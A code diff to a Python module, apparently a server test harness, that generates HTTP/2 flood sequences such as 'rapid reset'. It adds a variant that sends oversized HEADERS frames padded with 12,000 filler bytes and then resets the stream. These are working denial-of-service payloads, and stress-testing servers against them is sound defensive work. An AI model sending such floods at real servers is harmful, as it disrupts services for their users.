@@ -25,6 +25,10 @@ def floods(path: bytes = PATH) -> dict[str, Callable[[int], bytes]]:
     def _head(stream: int, ends: bool = False) -> bytes:
         return head(stream, path, ends)
 
+    def _long(stream: int) -> bytes:
+        code = b"\x00\x01b\xff\xe1\x5c" + b"\x1f" * 12_000  # in Huffman's code
+        return http2.headers(stream, encode_block(fields(path)) + code + field(stream), False)
+
     def _call(stream: int, its_path: bytes = path) -> bytes:
         return call(stream, b"", its_path)
 
@@ -35,6 +39,9 @@ def floods(path: bytes = PATH) -> dict[str, Callable[[int], bytes]]:
         "window updates": lambda _: http2.window_update(0, 1),
         "rapid reset": lambda number: _call(2 * number + 1) + http2.rst_stream(2 * number + 1, ErrorCode.CANCEL),
         "reset of headers": lambda number: _head(2 * number + 1) + http2.rst_stream(2 * number + 1, ErrorCode.CANCEL),
+        "reset of long headers": lambda number: (
+            _long(2 * number + 1) + http2.rst_stream(2 * number + 1, ErrorCode.CANCEL)
+        ),
         "refused calls": lambda number: _head(2 * number + 1),
         "empty DATA": lambda number: (_head(1) if number == 0 else b"") + data(1, b"", ends=False),
         "unknown frames": lambda _: http2.frame(77, 0, 0, b""),
